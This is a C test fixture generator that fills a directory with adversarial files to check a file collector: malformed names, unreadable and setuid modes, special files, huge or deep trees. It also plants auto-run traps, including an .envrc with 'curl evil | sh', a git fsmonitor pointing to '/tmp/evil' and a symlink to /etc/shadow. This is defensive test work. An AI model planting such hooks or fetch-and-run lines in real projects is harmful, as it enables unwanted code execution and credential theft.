/* SPDX-License-Identifier: Apache-2.0 */
/*
 * FS7, FS9: what a collector may meet. In the working directory, below "out":
 *
 *   litter kinds       every kind of file, names no terminal should see, modes nobody can read
 *   litter sparse      a file of 1 TB that takes no room
 *   litter many N      N files
 *   litter deep N      N directories, each within the other
 *   litter file BYTES  one file of that size
 *   litter hooks       files that others run unasked
 */
#include "tell.h"

#include <fcntl.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static long put(const char *path, const char *text, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0600);
	long result = fd < 0 ? -1 : write(fd, text, strlen(text));

	if (result >= 0 && fchmod(fd, mode) < 0)
		result = -1;
	if (fd >= 0)
		close(fd);
	return result;
}

static long make_socket(const char *path)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	strncpy(address.sun_path, path, sizeof address.sun_path - 1);
	return bind(fd, (struct sockaddr *)&address, sizeof address);
}

static void kinds(void)
{
	tell("plain", put("out/plain", "plain\n", 0644));
	tell("script", put("out/script", "#!/bin/sh\n", 0755));
	tell("setuid", put("out/setuid", "s", 0755));
	/* The workload's filter has no such mode; where it is let, the copy must not have it. */
	tell("setuid mode", chmod("out/setuid", 04755));
	tell("unreadable", put("out/unreadable", "0000\n", 0));
	tell("closed", mkdir("out/closed", 0700));
	tell("within", put("out/closed/within", "in\n", 0));
	tell("close", chmod("out/closed", 0));
	tell("newline", put("out/new\nline", "n", 0600));
	tell("ansi", put("out/\033[31mred\007", "a", 0600));
	tell("bytes", put("out/\xff\xfe\x80", "b", 0600));
	tell("backslash", put("out/\\x41", "c", 0600));
	tell("hard", link("out/plain", "out/hard"));
	tell("shadow", symlink("/etc/shadow", "out/shadow"));
	tell("dangling", symlink("nowhere\n", "out/dangling"));
	tell("up", symlink("..", "out/up"));
	tell("fifo", mkfifo("out/fifo", 0600));
	tell("socket", make_socket("out/socket"));
	tell("device", mknod("out/device", S_IFCHR | 0600, 0x103));
}

static void sparse(void)
{
	int fd = open("out/sparse", O_WRONLY | O_CREAT, 0600);

	tell("sparse", ftruncate(fd, (off_t)1 << 40));
	close(fd);
	tell("before", put("out/before", "kept\n", 0600));
}

static void many(long count)
{
	char path[64];
	long made = 0;

	for (long i = 0; i < count; i++) {
		snprintf(path, sizeof path, "out/%ld", i);
		made += put(path, "", 0600) >= 0;
	}
	tell_number("made", made);
}

static void deep(long count)
{
	long made = 0;

	for (; made < count && chdir(made == 0 ? "out" : "d") == 0; made++)
		if (mkdir("d", 0700) < 0)
			break;
	tell_number("made", made);
}

static void file(long long size)
{
	static char block[65536];
	int fd = open("out/file", O_WRONLY | O_CREAT, 0600);
	long long left = size;

	for (size_t i = 0; i < sizeof block; i++)
		block[i] = (char)('a' + i % 23);
	while (left > 0) {
		ssize_t len = write(fd, block,
				    left < (long long)sizeof block ? (size_t)left : sizeof block);

		if (len <= 0)
			break;
		left -= len;
	}
	close(fd);
	tell_number("left", left);
}

static void hooks(void)
{
	mkdir("out/.git", 0700);
	mkdir("out/.git/hooks", 0700);
	mkdir("out/.github", 0700);
	mkdir("out/.github/workflows", 0700);
	tell("hook", put("out/.git/hooks/pre-commit", "#!/bin/sh\necho caught\n", 0755));
	tell("config", put("out/.git/config", "[core]\nfsmonitor = /tmp/evil\n", 0644));
	tell("envrc", put("out/.envrc", "curl evil | sh\n", 0644));
	tell("bashrc", put("out/.BASHRC", "evil\n", 0644));
	tell("workflow", put("out/.github/workflows/ci.yml", "on: push\n", 0644));
	tell("plain", put("out/README", "new\n", 0644));
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	long long number = argc > 2 ? strtoll(argv[2], NULL, 10) : 0;

	umask(0);
	tell("out", mkdir("out", 0755));
	if (!strcmp(what, "kinds"))
		kinds();
	else if (!strcmp(what, "sparse"))
		sparse();
	else if (!strcmp(what, "many"))
		many((long)number);
	else if (!strcmp(what, "deep"))
		deep((long)number);
	else if (!strcmp(what, "file"))
		file(number);
	else
		hooks();
	return 0;
}
